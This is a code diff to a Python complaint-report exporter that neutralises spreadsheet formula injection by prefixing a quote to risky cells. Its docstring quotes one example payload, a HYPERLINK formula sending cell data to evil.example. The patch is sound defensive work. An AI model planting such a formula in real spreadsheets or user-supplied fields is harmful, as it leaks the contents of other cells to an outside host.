@@ -8,6 +8,7 @@ is. Rows are streamed from the database, so a year of cases never sits in memory
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Iterable, Sequence
 from datetime import datetime
 from pathlib import Path
@@ -22,6 +23,9 @@ from pipeline.reports.statistics import Summary, TableRow
 HEADERS = ("日期 Date", "编号 Number", "客户 Customer", "投诉内容 Complaint",
            "责任部门 Department", "处理方式 Handling method", "损失金额 Loss amount",
            "产品 Product", "数量 Quantity")
+# A spreadsheet runs a cell starting with one of these as a formula (or DDE command).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d,]*(?:\.\d+)?%?")
 METHOD_NAMES = {"compensation": "赔偿 Compensation", "return": "退货 Return",
                 "discount": "折价 Discount", "other": "其他 Other", "": ""}
 
@@ -32,8 +36,28 @@ def department_name(departments: Sequence[Department], key: str) -> str:
     return f"{department.name_zh} {department.name_en}" if department else key
 
 
+def inert(value: object) -> object:
+    """A text that a spreadsheet would run as a formula, made plain text with a ``'``.
+
+    Customer text (a subject like ``=HYPERLINK("http://evil.example/?"&B1,"x")``)
+    reaches the exports; Excel and LibreOffice evaluate a cell that starts with
+    ``= + - @``, a tab or a carriage return. A signed plain number ("+3", "-12.5%")
+    cannot do anything and is left as it is.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
+            and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
 def row_values(row: TableRow, departments: Sequence[Department], time_zone: str) -> list[object]:
-    """One table row as spreadsheet values."""
+    """One table row as spreadsheet values, every text made inert."""
+    return [inert(value) for value in plain_values(row, departments, time_zone)]
+
+
+def plain_values(row: TableRow, departments: Sequence[Department],
+                 time_zone: str) -> list[object]:
+    """One table row as it reads (for the PDF, which never evaluates anything)."""
     local: datetime = row.received_at.astimezone(ZoneInfo(time_zone))
     return [local.strftime("%Y-%m-%d"), row.reference, row.customer, row.content,
             department_name(departments, row.department) if row.department else "",
@@ -119,6 +143,6 @@ def write_xlsx(path: Path, summary: Summary | None, rows: Iterable[TableRow],
     if summary is not None:
         sheet = book.create_sheet("汇总 Summary")
         for label, value in summary_lines(summary, departments):
-            sheet.append([label, value])
+            sheet.append([inert(label), inert(value)])
     book.save(path)
     return count
